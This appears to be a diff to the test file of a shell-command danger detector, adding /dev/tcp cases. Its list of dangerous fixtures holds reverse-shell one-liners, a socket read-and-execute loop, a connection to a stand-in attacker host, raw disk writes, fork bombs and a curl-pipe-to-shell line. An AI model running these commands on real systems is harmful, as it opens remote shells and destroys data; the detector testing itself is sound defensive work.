@@ -101,6 +101,11 @@ SCRIPTS = [
     "cat x >> /dev/nvme0n1",
     "cat x > /dev/tcp/10.0.0.1/80",
     "cat < /dev/tcp/10.0.0.1/80",
+    "exec 3<>/dev/tcp/127.evil.example/80",
+    "exec 3<>/dev/sda",
+    "bash -i >& /dev/tcp/127.0.0.1/4444 0>&1",
+    "exec 5<>/dev/tcp/localhost/4444; cat <&5 | sh",
+    "exec 5<>/dev/tcp/localhost/4444; cat <&5 | while read l; do $l 2>&5 >&5; done",
     ":(){ :|:& };:",
     "bomb() { bomb | bomb & }; bomb",
     "curl https://x | sh",
@@ -115,6 +120,11 @@ SCRIPTS = [
 ]
 
 HARMLESS_SCRIPTS = [
+    "exec 3<>/dev/tcp/localhost/5432",
+    "until (exec 3<>/dev/tcp/127.0.0.1/5432) 2>/dev/null; do sleep 1; done; npm test",
+    "timeout 5 bash -c '</dev/tcp/localhost/5432' && bash run-tests.sh",
+    "for i in 1 2 3; do curl -sf localhost:8000 && break; done",
+    "python3 -m http.server 8000 & for i in 1 2 3; do curl -sf localhost:8000 && break; sleep 1; done",
     "echo x > /dev/null 2>&1",
     "echo x > /dev/stderr",
     "curl https://x -o y && bash setup.sh",
@@ -195,6 +205,12 @@ def test_a_danger_names_the_command_and_says_why() -> None:
     assert find_danger(segments(("bash", "-lc", "ls && sudo /bin/rm -fr x"))) == Danger(
         ("/bin/rm", "-fr", "x"), "deletes without asking"
     )
+
+
+def test_a_connection_is_not_called_a_device() -> None:
+    danger = find_danger(segments(("bash", "-c", "echo x > /dev/tcp/db.example/80")))
+    assert danger is not None
+    assert danger.why == "opens a connection to another machine"
 
 
 def test_what_is_too_long_to_read_counts_as_dangerous() -> None:
